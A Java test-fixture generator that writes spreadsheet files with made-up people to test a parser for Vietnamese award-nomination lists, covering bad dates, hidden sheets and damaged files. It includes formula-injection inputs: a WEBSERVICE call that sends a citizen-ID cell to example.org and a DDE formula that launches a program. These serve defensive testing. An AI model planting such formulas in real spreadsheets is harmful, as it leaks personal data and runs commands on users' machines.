package vn.vinhdanh.intake.sheet;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.text.Normalizer;
import java.time.LocalDate;
import java.util.Arrays;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.FormulaError;
import org.apache.poi.ss.usermodel.SheetVisibility;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/**
 * Writes the lists under src/test/resources/lists, each named after its trap; all people in them are made up. They are
 * committed; to write them anew: run {@link #main} with that folder. {@code saved-by-libreoffice.xlsx} is
 * {@code plain.xlsx} through {@code soffice --convert-to xlsx}, {@code marked-then-saved-by-libreoffice.xlsx} a marked
 * copy of {@code all-wrong-at-once.xlsx} likewise.
 */
final class ListFiles {

    static final String[] HEADINGS = {"STT", "Loại", "Họ và tên / Tên tập thể", "Giới tính", "Năm sinh", "Số CCCD",
        "Chức vụ", "Đơn vị công tác", "Lãnh đạo", "Mã nội dung", "Tóm tắt thành tích", "Từ ngày", "Đến ngày",
        "Hình thức đề nghị", "Ghi chú"};
    static final LocalDate FROM = LocalDate.of(2021, 9, 9);
    static final LocalDate TO = LocalDate.of(2021, 12, 31);

    private final Path folder;

    private ListFiles(Path folder) {
        this.folder = folder;
    }

    public static void main(String[] args) throws Exception {
        ListFiles files = new ListFiles(Path.of(args[0]));
        files.values();
        files.layouts();
        files.formulas();
        files.noLists();
        RawListFiles.write(Path.of(args[0]));
    }

    /** A good row; what is given replaces its cells from the left, null leaves them. */
    static Object[] person(Object... cells) {
        Object[] row = {1, "cá nhân", "Nguyễn Thị Mẫu", "nữ", 1985, "094185000001", "Điều dưỡng",
            "Trung tâm Y tế huyện Ví Dụ", "không", "ST-2", "Chăm sóc bệnh nhân tại khu điều trị", FROM, TO, null, null};
        for (int i = 0; i < cells.length; i++) {
            row[i] = cells[i] == null ? row[i] : cells[i];
        }
        return row;
    }

    static Object[] with(Object[] row, int at, Object value) {
        Object[] changed = row.clone();
        changed[at] = value;
        return changed;
    }

    private void values() throws IOException {
        Object[] team = {2, "Tập thể", "Tổ tình nguyện khóm Ví Dụ", null, null, null, null, "UBND phường Ví Dụ", null,
            "ST-4", "Vận động và chuyển 2.000 suất quà", FROM, TO, "Bằng khen của Chủ tịch Ủy ban nhân dân tỉnh",
            "Đã có tờ trình"};
        list("plain", HEADINGS, person(), team, person(3, null, "Đặng Văn Thí", "Nam", "1979", "094179000003",
                "Trưởng trạm", null, "x", "2"));
        list("leading-zeros-lost", HEADINGS, person(1, null, null, null, null, 94185000001L),
                person(2, null, null, null, null, 1185000002L), person(3, null, null, null, null, 36512345),
                person(4, null, null, null, null, 365123456), person(5, null, null, null, null, "094 185 000 005"),
                person(6, null, null, null, null, "94185000006"), person(7, null, null, null, null, 123));
        Object[] nfd = Arrays.stream(person(1, "cá nhân ", "  Đặng  Thị\u00a0Hòa\u200b ", "nữ\u00a0"))
                .map(v -> v instanceof String s ? Normalizer.normalize(s, Normalizer.Form.NFD) : v).toArray();
        list("nfd-names", Arrays.stream(HEADINGS).map(h -> Normalizer.normalize("\u00a0" + h + " ",
                Normalizer.Form.NFD)).toArray(), nfd);
        Object[] days = person();
        list("dates-three-ways", HEADINGS, days, dated(2, "09/09/2021", "31/12/2021"),
                dated(3, "9-9-2021", "31-12-2021"), dated(4, "2021-09-09", "2021-12-31"),
                dated(5, " 9/9/2021 ", "31.12.2021"), dated(6, "ngày 09 tháng 9 năm 2021", "2021-12-31 00:00:00"),
                dated(7, "31/02/2021", 2021), dated(8, "31/12/2021", "09/9/2021"), dated(9, "12/31/2021", "cuối năm"));
        list("all-wrong-at-once", HEADINGS, person(), new Object[] {2, "người", "   ", "khác", "85", "12ab",
            "x".repeat(201), null, "có lẽ", "ST-9", null, "hôm qua", "31/13/2021", "Huân chương", null},
                person(3, "hộ gia đình"));
        list("same-row-twice", HEADINGS, person(), person(2, null, "Trần Văn Ví"), person(3));
        try (XSSFWorkbook book = new XSSFWorkbook()) {
            book.getCTWorkbook().addNewWorkbookPr().setDate1904(true);
            sheet(book, "Danh sách", 0, HEADINGS, dated(1, 42986, 43099));    // as Excel counts from 1904
            save(book, "dates-of-1904.xlsx");
        }
    }

    private static Object[] dated(int stt, Object from, Object to) {
        return with(with(person(stt, null, "Người thứ " + stt), 11, from), 12, to);
    }

    private void layouts() throws IOException {
        try (XSSFWorkbook book = new XSSFWorkbook()) {
            XSSFSheet sheet = sheet(book, "DS", 4, new Object[] {"TT", "LOẠI", "HỌ VÀ TÊN", "GIỚI TÍNH",
                "NĂM SINH", "SỐ CCCD/CMND", "CHỨC VỤ", "ĐƠN VỊ", "LÃNH ĐẠO", "NỘI DUNG", "THÀNH TÍCH",
                "THỜI GIAN", null,
                "HÌNH THỨC KHEN THƯỞNG", "GHI CHÚ"},
                    new Object[] {null, null, null, null, null, null, null, null, null, null, null, "Từ ngày",
                        "Đến ngày"},
                    new Object[] {"(1)", "(2)", "(3)", "(4)", "(5)", "(6)", "(7)", "(8)", "(9)", "(10)", "(11)",
                        "(12)", "(13)", "(14)", "(15)"},
                    new Object[] {"I", null, "Cá nhân"}, person(), new Object[] {}, new Object[] {},
                    person(2, null, "Lê Văn Thử"), new Object[] {"II. TẬP THỂ"}, new Object[] {3},
                    new Object[] {}, new Object[] {null, null, null, null, null, null, null, "Ví Dụ, ngày 5/1/2022"},
                    new Object[] {null, null, null, null, null, null, null, "CHỦ TỊCH"});
            String[] titles = {"ỦY BAN NHÂN DÂN HUYỆN VÍ DỤ", "DANH SÁCH ĐỀ NGHỊ KHEN THƯỞNG",
                "Kèm theo Tờ trình số 12/TTr-UBND"};
            for (int i = 0; i < titles.length; i++) {
                sheet.createRow(i).createCell(0).setCellValue(titles[i]);
                sheet.addMergedRegion(new CellRangeAddress(i, i, 0, 14));
            }
            sheet.addMergedRegion(new CellRangeAddress(4, 4, 11, 12));
            save(book, "merged-title-rows.xlsx");
        }
        list("any-order", new Object[] {"GHI CHU", "den ngay (dd/mm/yyyy)", "Từ  ngày*", "thành tích", "ma noi dung",
            "Họ tên", "Ý kiến khác", "LOAI:", "giới", "Ngày sinh", "CMND/CCCD", "Nơi công tác",
            "Trường hợp loại trừ"},
                new Object[] {"chú", TO, FROM, "Trực chốt", "st2", "Phạm Thị Dẫn", "bỏ qua", "CÁ NHÂN", "nữ",
                    LocalDate.of(1990, 5, 12), "094190000009", "Công an xã", "không"},
                new Object[] {"chú", TO, FROM, "Trực chốt", "Công tác tuyên truyền", "Hồ Văn Dụ", "bỏ qua", "Cá nhân",
                    "NAM", "12/5/1990", "094090000008", "Công an xã", "có"});
        try (XSSFWorkbook book = new XSSFWorkbook()) {
            sheet(book, "Cũ", 0, HEADINGS, person(1, null, "Người Trang Ẩn"));
            sheet(book, "Rất ẩn", 0, HEADINGS, person(1, null, "Người Trang Rất Ẩn"));
            sheet(book, "Bìa", 0, new Object[] {"DANH SÁCH", "năm 2021"});
            sheet(book, "Danh sách", 2, HEADINGS, person(1, null, "Người Trang Hiện"));
            book.setSheetVisibility(0, SheetVisibility.HIDDEN);
            book.setSheetVisibility(1, SheetVisibility.VERY_HIDDEN);
            book.setActiveSheet(2);
            save(book, "hidden-sheet.xlsx");
        }
    }

    private void formulas() throws IOException {
        formula("formula-fetches", "WEBSERVICE(\"http://example.org/?\"&F2)", "ok");
        formula("formula-starts-a-program", "cmd|'/c calc'!A0", "0");
        formula("formula-in-other-workbook", "[1]Sheet1!A1", "Nguyễn");
        formula("formula-link", "HYPERLINK(\"http://example.org\",\"Nguyễn Văn Liên\")", "Nguyễn Văn Liên");
        formula("formula-unread", "\"Nguyễn \"&\"Văn Tính\"", null);
        formula("formula-joins", "\"Nguyễn \"&\"Văn Tính\"", "Nguyễn Văn Tính");
        list("cell-errors", HEADINGS, with(person(), 5, new Error("#N/A")));
    }

    /** What Excel writes for a cell in error. */
    record Error(String code) {
    }

    private void formula(String name, String formula, String result) throws IOException {
        RawListFiles.list(folder.resolve(name + ".xlsx"), person(), formula, result);
    }

    private void noLists() throws Exception {
        list("no-headings", new Object[] {"Tên", "Số điện thoại"}, new Object[] {"A", "B"});
        list("no-rows", HEADINGS, new Object[] {1}, new Object[] {2});
        list("column-missing", Arrays.copyOfRange(HEADINGS, 2, 15),
                Arrays.copyOfRange(person(), 2, 15));
        list("optional-columns-missing", Arrays.copyOf(HEADINGS, 4), Arrays.copyOf(person(), 4));
        Object[] doubled = Arrays.copyOf(HEADINGS, 16, Object[].class);
        doubled[15] = "CCCD";
        list("heading-doubled", doubled, person());
        try (HSSFWorkbook book = new HSSFWorkbook(); OutputStream out = out("old-format.xls")) {
            book.createSheet().createRow(0).createCell(0).setCellValue("STT");
            book.write(out);
        }
        try (POIFSFileSystem container = new POIFSFileSystem(); OutputStream out = out("encrypted.xlsx")) {
            Encryptor encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
            encryptor.confirmPassword("made-up");
            try (OutputStream inside = encryptor.getDataStream(container)) {
                Files.copy(folder.resolve("plain.xlsx"), inside);
            }
            container.writeFilesystem(out);
        }
        byte[] plain = Files.readAllBytes(folder.resolve("plain.xlsx"));
        Files.write(folder.resolve("damaged.xlsx"), Arrays.copyOf(plain, plain.length - 700));
        Files.write(folder.resolve("not-excel.xlsx"), "<html><table><tr><td>STT</td></tr></table></html>"
                .getBytes(StandardCharsets.UTF_8));
        Files.write(folder.resolve("nothing.xlsx"), new byte[0]);
    }

    private void list(String name, Object[]... rows) throws IOException {
        try (XSSFWorkbook book = new XSSFWorkbook()) {
            sheet(book, "Danh sách", 0, rows);
            save(book, name + ".xlsx");
        }
    }

    static XSSFSheet sheet(XSSFWorkbook book, String name, int firstRow, Object[]... rows) {
        XSSFSheet sheet = book.createSheet(name);
        var day = book.createCellStyle();
        day.setDataFormat(book.createDataFormat().getFormat("dd/mm/yyyy"));
        for (int r = 0; r < rows.length; r++) {
            var row = sheet.createRow(firstRow + r);
            for (int c = 0; c < rows[r].length; c++) {
                if (rows[r][c] != null) {
                    set(row.createCell(c), rows[r][c]);
                    if (rows[r][c] instanceof LocalDate) {
                        row.getCell(c).setCellStyle(day);
                    }
                }
            }
        }
        return sheet;
    }

    private static void set(Cell cell, Object value) {
        if (value instanceof Number number) {
            cell.setCellValue(number.doubleValue());
        } else if (value instanceof LocalDate date) {
            cell.setCellValue(date);
        } else if (value instanceof Error error) {
            cell.setCellErrorValue(FormulaError.forString(error.code()).getCode());
        } else {
            cell.setCellValue(value.toString());
        }
    }

    private void save(Workbook book, String name) throws IOException {
        try (OutputStream out = out(name)) {
            book.write(out);
        }
    }

    private OutputStream out(String name) throws IOException {
        return Files.newOutputStream(folder.resolve(name));
    }
}
